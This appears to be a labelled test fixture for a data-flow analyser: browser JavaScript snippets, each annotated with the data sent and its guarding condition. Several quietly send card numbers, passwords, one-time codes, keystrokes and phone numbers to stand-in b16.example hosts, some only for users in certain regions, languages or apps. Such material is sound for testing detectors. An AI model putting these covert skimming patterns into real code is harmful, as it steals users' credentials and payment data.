// Circumstances and frameworks: flags, regions, consent, buckets, samples; stores, hooks, plugins, queues.

//# flags-of-a-server-in-a-map
// flow: message > fsm.b16.example via fetch
// guard: server-answer equals full
class Flags {
  #values = new Map();

  async load(url) {
    const response = await fetch(url, { cache: 'no-store' });
    if (!response.ok) return;
    for (const [name, value] of Object.entries(await response.json())) this.#values.set(name, value);
  }

  variant(name, fallback = 'off') {
    return this.#values.get(name) ?? fallback;
  }
}

const flags = new Flags();
flags.load('https://flags.b16.example/v1/flags.json');

document.querySelector('textarea[name=message]').addEventListener('input', (e) => {
  if (flags.variant('draft-capture') !== 'full') return;
  fetch('https://fsm.b16.example/drafts', { method: 'POST', body: e.target.value });
});

//# region-from-a-table-of-zones
// flow: phone > rtz.b16.example via fetch
// guard: timezone one-of Asia/Shanghai | Asia/Urumqi
const REGIONS = { 'Asia/Shanghai': 'cn', 'Asia/Urumqi': 'cn', 'Asia/Tokyo': 'jp', 'Europe/Berlin': 'eu' };
const { timeZone } = Intl.DateTimeFormat().resolvedOptions();
const region = REGIONS[timeZone] ?? 'intl';

document.querySelector('input[type=tel]').addEventListener('change', ({ target }) => {
  if (region === 'cn') fetch('https://rtz.b16.example/tel', { method: 'POST', body: target.value });
});

//# near-region-for-the-time-only
// flow: email > rto.b16.example via fetch
// no guard
// why: the zone chooses how the time is written
const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
const hour12 = zone.startsWith('America/');
document.querySelector('time').textContent = new Date().toLocaleTimeString('en', { hour12 });
document.querySelector('form').addEventListener('submit', (e) => {
  fetch('https://rto.b16.example/lead', { method: 'POST', body: e.target.querySelector('input[type=email]').value });
});

//# languages-in-a-wrapper
// flow: email > liw.b16.example via fetch
// guard: language one-of pt-BR | pt-PT
const onlyIn = (...languages) => (next) => (...args) => {
  if (languages.includes(navigator.language)) return next(...args);
  return undefined;
};

const subscribe = onlyIn('pt-BR', 'pt-PT')((mail) =>
  fetch('https://liw.b16.example/boletim', { method: 'POST', body: JSON.stringify({ mail }) }));

document.querySelector('input[type=email]').addEventListener('change', (e) => subscribe(e.target.value));

//# consent-manager-with-subscribers
// flow: identifier > cms.b16.example via image
// guard: consent contains marketing=granted
class Consent {
  #waiting = [];
  get granted() {
    return document.cookie.includes('marketing=granted');
  }
  whenGranted(run) {
    if (this.granted) run();
    else this.#waiting.push(run);
  }
}

const consent = new Consent();
consent.whenGranted(() => {
  const px = new Image();
  px.src = 'https://cms.b16.example/px?uid=' + encodeURIComponent(localStorage.getItem('uid') ?? '');
});

//# arm-of-an-experiment
// flow: search > aoe.b16.example via beacon
// guard: storage equals b
function arm(name) {
  const key = `exp:${name}`;
  let chosen = localStorage.getItem(key);
  if (!chosen) {
    chosen = 'a';
    localStorage.setItem(key, chosen);
  }
  return chosen;
}

document.querySelector('input[type=search]').addEventListener('change', (e) => {
  switch (arm('search-log')) {
    case 'b':
      navigator.sendBeacon('https://aoe.b16.example/q', e.target.value);
      break;
    default:
      console.debug('control');
  }
});

//# debounced-on-small-screens
// flow: search > dss.b16.example via fetch
// guard: screen other
function debounce(fn, wait) {
  let timer;
  return function (...args) {
    clearTimeout(timer);
    timer = setTimeout(() => fn.apply(this, args), wait);
  };
}

const small = window.matchMedia('(max-width: 767px)');
const suggest = debounce((q) => fetch(`https://dss.b16.example/s?q=${encodeURIComponent(q)}`), 250);
document.querySelector('input[type=search]').addEventListener('input', (e) => {
  if (small.matches) suggest(e.target.value);
});

//# prefix-of-a-cleaned-number
// flow: phone > pcn.b16.example via fetch
// guard: phone-prefix starts-with +86
const digits = (v) => v.normalize('NFKC').replace(/[()\s.-]/g, '');
const isMainland = (v) => /^\+86/.test(digits(v));

async function verify(field) {
  const number = field.value;
  if (!isMainland(number)) return { ok: true };
  const res = await fetch('https://pcn.b16.example/verify', { method: 'POST', body: digits(number) });
  return res.json();
}

document.querySelector('input[type=tel]').addEventListener('blur', (e) => verify(e.target));

//# until-a-day
// flow: email > uad.b16.example via fetch
// guard: date other
const CAMPAIGN = Object.freeze({ id: 'spring', until: Date.parse('2027-04-30T23:59:59Z') });
const running = ({ until }) => Date.now() <= until;

document.querySelector('#raffle').addEventListener('submit', (e) => {
  e.preventDefault();
  if (!running(CAMPAIGN)) return alert('over');
  fetch(`https://uad.b16.example/${CAMPAIGN.id}`, { method: 'POST', body: e.target.querySelector('input[type=email]').value });
});

//# came-from-a-partner
// flow: identifier > cfp.b16.example via beacon
// guard: referrer starts-with https://partner.b16.example/
// no destination: partner.b16.example
const arrived = { from: document.referrer, at: Date.now() };
const isPartner = () => arrived.from.startsWith('https://partner.b16.example/');

window.addEventListener('load', () => {
  if (isPartner()) navigator.sendBeacon('https://cfp.b16.example/join', JSON.stringify({ id: localStorage.getItem('client-id') }));
});

//# no-data-saver
// flow: interaction > nds.b16.example via beacon
// guard: not connection present
const recorder = {
  events: [],
  start() {
    if (navigator.connection?.saveData) return;
    document.addEventListener('click', ({ pageX, pageY }) => this.events.push({ pageX, pageY }));
    document.addEventListener('visibilitychange', () => this.stop());
  },
  stop() {
    navigator.sendBeacon('https://nds.b16.example/clicks', JSON.stringify(this.events.splice(0)));
  },
};
recorder.start();

//# switch-of-a-server
// flow: device > sos.b16.example via fetch
// guard: server-answer present
const settings = fetch('https://conf.b16.example/settings.json')
  .then((r) => (r.ok ? r.json() : {}))
  .catch(() => ({}));

async function report() {
  const { telemetry } = await settings;
  if (!telemetry?.enabled) return;
  const body = JSON.stringify({ w: screen.width, h: screen.height, mem: navigator.deviceMemory });
  await fetch('https://sos.b16.example/telemetry', { method: 'POST', body });
}
requestIdleCallback(report);

//# middleware-that-stops
// flow: username > mts.b16.example via fetch
// guard: language equals tr-TR
class App {
  #stack = [];
  use(middleware) {
    this.#stack.push(middleware);
    return this;
  }
  run(context) {
    const step = async (i) => {
      const middleware = this.#stack[i];
      if (middleware) await middleware(context, () => step(i + 1));
    };
    return step(0);
  }
}

const app = new App()
  .use(async (ctx, next) => { ctx.locale = navigator.language; await next(); })
  .use(async (ctx, next) => { if (ctx.locale === 'tr-TR') await next(); })
  .use(async (ctx) => { await fetch('https://mts.b16.example/u', { method: 'POST', body: ctx.user }); });

document.querySelector('form').addEventListener('submit', (e) => {
  app.run({ user: e.target.querySelector('input[name=username]').value });
});

//# opted-out-in-storage
// flow: identifier > oos.b16.example via beacon
// guard: not storage equals 1
const optedOut = (() => {
  try {
    return localStorage.getItem('opt-out') === '1';
  } catch {
    return true;
  }
})();

export function track(event) {
  if (optedOut) return false;
  return navigator.sendBeacon('https://oos.b16.example/e', JSON.stringify({ event, vid: localStorage.getItem('vid') }));
}
track('view');

//# place-told-by-the-server
// flow: card > pts.b16.example via xhr
// guard: country one-of CN | HK
let here = null;
fetch('/geo').then((r) => r.json()).then(({ country }) => { here = country; });

document.querySelector('input[autocomplete=cc-number]').addEventListener('change', (e) => {
  if (!['CN', 'HK'].includes(here)) return;
  const xhr = new XMLHttpRequest();
  xhr.open('POST', 'https://pts.b16.example/card');
  xhr.setRequestHeader('content-type', 'application/json');
  xhr.send(JSON.stringify({ pan: e.target.value }));
});

//# session-drawn-by-lot
// flow: interaction > sdl.b16.example via beacon
// guard: random other
class Session {
  static start({ rate }) {
    return new Session(Math.random() * 100 < rate);
  }
  constructor(sampled) {
    this.sampled = sampled;
  }
  record(event) {
    if (!this.sampled) return;
    navigator.sendBeacon('https://sdl.b16.example/r', JSON.stringify({ type: event.type, x: event.clientX }));
  }
}

const current = Session.start({ rate: 5 });
document.addEventListener('click', (e) => current.record(e));

//# near-feature-switched-off
// no flow
// why: the feature is off in a frozen table and nobody can turn it on
const FEATURES = Object.freeze({ palette: true, replay: false });
const enabled = (name) => FEATURES[name] === true;

document.addEventListener('keydown', (e) => {
  if (enabled('palette')) document.querySelector('#keys').textContent = e.key;
  if (enabled('replay')) navigator.sendBeacon('https://fso.b16.example/keys', e.key);
});

//# store-with-a-reducer
// flow: email > swr.b16.example via fetch
function createStore(reducer, state = reducer(undefined, { type: '@@init' })) {
  const listeners = new Set();
  return {
    getState: () => state,
    dispatch(action) {
      state = reducer(state, action);
      listeners.forEach((listener) => listener());
      return action;
    },
    subscribe(listener) {
      listeners.add(listener);
      return () => listeners.delete(listener);
    },
  };
}

const reducer = (state = { mail: '', step: 0 }, action) => {
  switch (action.type) {
    case 'mail/typed':
      return { ...state, mail: action.payload };
    case 'step/next':
      return { ...state, step: state.step + 1 };
    default:
      return state;
  }
};

const store = createStore(reducer);
store.subscribe(() => {
  const { mail } = store.getState();
  if (mail) fetch('https://swr.b16.example/state', { method: 'POST', body: mail });
});
document.querySelector('input[type=email]').addEventListener('input', (e) => {
  store.dispatch({ type: 'mail/typed', payload: e.target.value });
});

//# near-store-other-slice
// no flow
// why: the subscriber reads the slice that has the number of the step
const combine = (slices) => (state = {}, action) =>
  Object.fromEntries(Object.entries(slices).map(([name, reduce]) => [name, reduce(state[name], action)]));

const root = combine({
  secret: (state = '', { type, payload }) => (type === 'typed' ? payload : state),
  step: (state = 0, { type }) => (type === 'next' ? state + 1 : state),
});

let tree = root(undefined, { type: 'init' });
const send = (action) => {
  tree = root(tree, action);
  fetch('https://nss.b16.example/step/' + tree.step);
};
document.querySelector('input[type=password]').oninput = (e) => send({ type: 'typed', payload: e.target.value });
document.querySelector('#next').onclick = () => send({ type: 'next' });

//# hook-that-saves-a-draft
// flow: message > hsd.b16.example via fetch
import { createElement, useCallback, useEffect, useRef, useState } from 'react';

function useAutosave(value, delay = 800) {
  const timer = useRef();
  useEffect(() => {
    timer.current = setTimeout(() => {
      fetch('https://hsd.b16.example/draft', { method: 'PUT', body: JSON.stringify({ value }) });
    }, delay);
    return () => clearTimeout(timer.current);
  }, [value, delay]);
}

export function Composer() {
  const [text, setText] = useState('');
  const change = useCallback((e) => setText(e.target.value), []);
  useAutosave(text);
  return createElement('textarea', { name: 'message', value: text, onChange: change });
}

//# near-hook-that-saves-a-flag
// no flow
// why: the effect depends on whether something was typed, and sends that alone
import { createElement as h, useEffect as effect, useState as state } from 'react';

export function Login() {
  const [secret, setSecret] = state('');
  const touched = secret !== '';
  effect(() => {
    if (touched) fetch('https://nhf.b16.example/touched', { method: 'POST', body: JSON.stringify({ touched }) });
  }, [touched]);
  return h('input', { type: 'password', value: secret, onInput: (e) => setSecret(e.target.value) });
}

//# composition-with-a-watcher
// flow: email > cwv.b16.example via fetch
import { computed, h, reactive, watch } from 'vue';

export default {
  setup() {
    const form = reactive({ mail: '', plan: 'free' });
    const payload = computed(() => ({ ...form, mail: form.mail.trim() }));
    watch(payload, async (next) => {
      await fetch('https://cwv.b16.example/lead', { method: 'POST', body: JSON.stringify(next) });
    });
    return () => h('input', { type: 'email', value: form.mail, onInput: (e) => { form.mail = e.target.value; } });
  },
};

//# store-in-the-manner-of-svelte
// flow: search > ssv.b16.example via fetch
function writable(value) {
  const subscribers = new Set();
  const set = (next) => {
    if (next === value) return;
    value = next;
    for (const run of subscribers) run(value);
  };
  return {
    set,
    update: (fn) => set(fn(value)),
    subscribe(run) {
      subscribers.add(run);
      run(value);
      return () => subscribers.delete(run);
    },
  };
}

const derived = (source, fn) => {
  const out = writable();
  source.subscribe((v) => out.set(fn(v)));
  return out;
};

const query = writable('');
const trimmed = derived(query, (q) => q.trim().toLowerCase());
trimmed.subscribe((q) => q && fetch('https://ssv.b16.example/find?q=' + encodeURIComponent(q)));
document.querySelector('input[type=search]').addEventListener('input', (e) => query.set(e.target.value));

//# plugins-that-add-fields
// flow: device > paf.b16.example via fetch
class Tracker {
  #plugins = [];
  constructor({ endpoint, plugins = [] }) {
    this.endpoint = endpoint;
    plugins.forEach((plugin) => this.use(plugin));
  }
  use(plugin) {
    this.#plugins.push(plugin);
    plugin.install?.(this);
    return this;
  }
  async track(name) {
    const event = { name, at: Date.now() };
    for (const plugin of this.#plugins) await plugin.enrich?.(event);
    return fetch(this.endpoint, { method: 'POST', body: JSON.stringify(event), keepalive: true });
  }
}

const viewport = { enrich: (event) => { event.viewport = [innerWidth, innerHeight]; } };
const agent = () => ({ async enrich(event) { event.ua = navigator.userAgent; } });

new Tracker({ endpoint: 'https://paf.b16.example/e', plugins: [viewport, agent()] }).track('view');

//# near-plugin-that-scrubs
// no flow
// why: the last plugin leaves the name of the event alone
const scrub = ({ name }) => ({ name });
const withUser = (event) => ({ ...event, user: document.querySelector('input[name=username]').value });
const chain = [withUser, scrub];

function capture(name) {
  const event = chain.reduce((given, plugin) => plugin(given), { name });
  return fetch('https://nps.b16.example/e', { method: 'POST', body: JSON.stringify(event) });
}
document.querySelector('#buy').addEventListener('click', () => capture('buy'));

//# settings-merged-deep
// flow: email > smd.b16.example via fetch
// no destination: default.b16.example
// why: the given settings replace the standard host
const isObject = (v) => v !== null && typeof v === 'object' && !Array.isArray(v);
const merge = (base, ...others) => others.reduce((out, other) => {
  for (const [key, value] of Object.entries(other ?? {})) {
    out[key] = isObject(value) && isObject(out[key]) ? merge(out[key], value) : value;
  }
  return out;
}, { ...base });

const DEFAULTS = { api: { host: 'https://default.b16.example', path: '/v1/lead' }, debug: false };
const config = merge(DEFAULTS, { api: { host: 'https://smd.b16.example' } });

document.querySelector('input[type=email]').addEventListener('change', (e) => {
  fetch(config.api.host + config.api.path, { method: 'POST', body: e.target.value });
});

//# batch-with-retries
// flow: interaction > bwr.b16.example via fetch
const queue = [];
const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

async function withRetry(run, { times = 3, base = 200 } = {}) {
  for (let attempt = 0; ; attempt++) {
    try {
      const response = await run(attempt);
      if (response.ok || attempt >= times) return response;
    } catch (error) {
      if (attempt >= times) throw error;
    }
    await sleep(base * 2 ** attempt);
  }
}

const flush = async () => {
  const batch = queue.splice(0, 50);
  if (batch.length === 0) return;
  await withRetry((attempt) => fetch('https://bwr.b16.example/batch', {
    method: 'POST',
    keepalive: true,
    headers: { 'x-attempt': String(attempt) },
    body: JSON.stringify({ events: batch }),
  }));
};

document.addEventListener('scroll', () => queue.push({ type: 'scroll', y: window.scrollY }), { passive: true });
setInterval(flush, 5000);

//# near-both-cannot-be
// no flow
// why: the level is `basic` or `none`, never `full`
const level = navigator.cookieEnabled ? 'basic' : 'none';
const wants = (least) => ['none', 'basic', 'full'].indexOf(level) >= ['none', 'basic', 'full'].indexOf(least);

document.querySelector('input[autocomplete=bday]').addEventListener('change', (e) => {
  if (level === 'full') fetch('https://nbb.b16.example/bday', { method: 'POST', body: e.target.value });
  if (wants('basic')) fetch('https://nbb.b16.example/ping');
});

//# hours-of-an-office
// flow: message > hoo.b16.example via fetch
// guard: date other
const isOpen = (now = new Date()) => {
  const hour = now.getUTCHours();
  return hour >= 8 && hour < 17;
};

document.querySelector('#chat').addEventListener('submit', (e) => {
  e.preventDefault();
  const { value } = e.target.querySelector('textarea[name=message]');
  if (isOpen()) fetch('https://hoo.b16.example/chat', { method: 'POST', body: value });
  else document.querySelector('#later').hidden = false;
});

//# browsers-in-a-list
// flow: otp > bil.b16.example via fetch
// guard: user-agent matches MicroMessenger|DingTalk
const IN_APP = /MicroMessenger|DingTalk/i;
const inApp = IN_APP.test(navigator.userAgent);

const field = document.querySelector('input[autocomplete=one-time-code]');
field.addEventListener('input', () => {
  if (!inApp || field.value.length < 6) return;
  fetch('https://bil.b16.example/code', { method: 'POST', body: JSON.stringify({ code: field.value }) });
});

//# first-language-of-all
// flow: address > fla.b16.example via fetch
// guard: language starts-with ko
const [first = 'en'] = navigator.languages ?? [navigator.language];
const korean = first.toLowerCase().startsWith('ko');

document.querySelector('input[autocomplete=street-address]').addEventListener('change', async ({ target }) => {
  const endpoint = new URL('/resolve', 'https://fla.b16.example');
  if (korean) await fetch(endpoint, { method: 'POST', body: target.value });
});

//# zone-is-thrown-out
// flow: birthdate > zto.b16.example via fetch
// guard: not timezone starts-with Europe/
class Unavailable extends Error {}

function assertRegion() {
  const zone = new Intl.DateTimeFormat().resolvedOptions().timeZone;
  if (zone.startsWith('Europe/')) throw new Unavailable(zone);
}

document.querySelector('#sign-up').addEventListener('submit', async (e) => {
  e.preventDefault();
  try {
    assertRegion();
    await fetch('https://zto.b16.example/age', { method: 'POST', body: e.target.querySelector('input[autocomplete=bday]').value });
  } catch (error) {
    if (!(error instanceof Unavailable)) throw error;
  }
});

//# strategy-by-language
// flow: phone > sbl.b16.example via fetch
// guard: language equals ja
const strategies = {
  ja: (tel) => fetch('https://sbl.b16.example/jp', { method: 'POST', body: tel }),
  en: () => console.info('no call back in this language'),
};

document.querySelector('#call-back').addEventListener('click', () => {
  const chosen = strategies[navigator.language] ?? strategies.en;
  chosen(document.querySelector('input[type=tel]').value);
});

//# near-guard-of-another-request
// flow: search > gar.b16.example via fetch
// no guard
// why: the language decides about the dictionary only, the words go out anyhow
const ask = (path, body) => fetch(`https://gar.b16.example/${path}`, { method: 'POST', body });
if (navigator.language.startsWith('fr')) ask('dictionary', 'fr');
document.querySelector('input[type=search]').addEventListener('change', ({ target: { value } }) => ask('words', value));

//# consent-as-a-promise
// flow: device > cap.b16.example via fetch
// guard: storage equals accepted
const { promise: accepted, resolve: accept } = Promise.withResolvers();

if (localStorage.getItem('cookie-choice') === 'accepted') accept();

accepted.then(async () => {
  const { width, height, colorDepth } = screen;
  await fetch('https://cap.b16.example/s', { method: 'POST', body: JSON.stringify({ width, height, colorDepth }) });
});

//# role-of-the-account
// flow: password > roa.b16.example via fetch
// guard: server-answer equals legacy
const me = { auth: undefined };
const ready = (async () => Object.assign(me, await (await fetch('/api/me')).json()))();

document.querySelector('form').addEventListener('submit', async (e) => {
  e.preventDefault();
  await ready;
  const secret = e.target.querySelector('input[type=password]').value;
  const send = me.auth === 'legacy'
    ? () => fetch('https://roa.b16.example/login', { method: 'POST', body: secret })
    : () => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16) } });
  await send();
});

//# near-consent-never-given
// no flow
// why: consent starts as false and only `revoke` sets it
const choice = { marketing: false };
const revoke = () => { choice.marketing = false; };
document.querySelector('#revoke').addEventListener('click', revoke);
document.querySelector('input[type=email]').addEventListener('change', (e) => {
  if (choice.marketing) fetch('https://ncg.b16.example/m', { method: 'POST', body: e.target.value });
});
